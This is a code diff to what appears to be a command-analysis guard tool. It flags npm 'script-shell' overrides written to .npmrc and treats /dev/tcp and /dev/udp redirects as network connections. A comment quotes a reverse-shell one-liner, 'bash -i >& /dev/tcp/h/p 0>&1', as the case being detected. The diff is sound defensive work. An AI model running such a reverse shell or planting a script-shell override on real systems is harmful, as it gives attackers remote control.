@@ -58,9 +58,22 @@ def route(output: Choice, channel: Channel, expander: Expander) -> Choice:
     if channel.kind == "file":
         for path in channel.path:
             expander.state.write(path, output, channel.append)
+            if (path.text or "").endswith(".npmrc"):
+                planted(output, expander)
     if channel.kind == "process":
         feed(expander, output)
     return NOTHING
+
+
+def planted(output: Choice, expander: Expander) -> None:
+    """`script-shell=x` in npm's own settings."""
+    from guardcmd.unwrap.assignments import consider
+
+    for value in output:
+        for line in "\n".join(value.texts).split("\n"):
+            key, _, given = line.partition("=")
+            if key.strip() in ("script-shell", "script_shell"):
+                consider("npm_config_script_shell", (known(given.strip()),), expander, (0, 0))
 
 
 def feed(expander: Expander, output: Choice) -> None:
@@ -112,7 +125,7 @@ def open_input(redirect: Redirect, expander: Expander) -> None:
 def from_file(path: Value, expander: Expander) -> tuple[Input, ...]:
     """`< path`: the text if it is known, a connection, or the file."""
     text = path.text or ""
-    if text.startswith(("/dev/tcp/", "/dev/udp/")):
+    if text.startswith(CONNECTIONS):
         return (Input("pipe", None, path, text, True),)
     content = expander.state.written(path)
     if content is not None:
@@ -151,6 +164,8 @@ def open_output(redirect: Redirect, expander: Expander) -> None:
         return
     paths = tuple([path for path in target if report(redirect, path, expander)])
     channel = Channel("file", (NO_INPUT,), paths, ">>" in redirect.operator) if paths else special(name)
+    if not paths and (name or "").startswith(CONNECTIONS):  # bash -i >& /dev/tcp/h/p 0>&1
+        channel = channel.replace(inputs=from_file(target[0], expander))
     if redirect.operator == "<>":
         channel = channel.replace(inputs=from_file(target[0], expander))
     state.open(descriptor, channel)
@@ -181,7 +196,7 @@ def report(redirect: Redirect, path: Value, expander: Expander) -> bool:
             (),
             state.directory,
             state.exports(),
-            walker.origin,
+            walker.at(redirect.span),
             walker.place(redirect.span),
             {},
             (Target("path", path),),
@@ -191,7 +206,8 @@ def report(redirect: Redirect, path: Value, expander: Expander) -> bool:
     return True
 
 
-DEVICES = ("/dev/fd/", "/proc/self/fd/", "/dev/tcp/", "/dev/udp/")
+CONNECTIONS = ("/dev/tcp/", "/dev/udp/")
+DEVICES = ("/dev/fd/", "/proc/self/fd/", *CONNECTIONS)
 
 
 def number(redirect: Redirect, usual: str, expander: Expander) -> str:
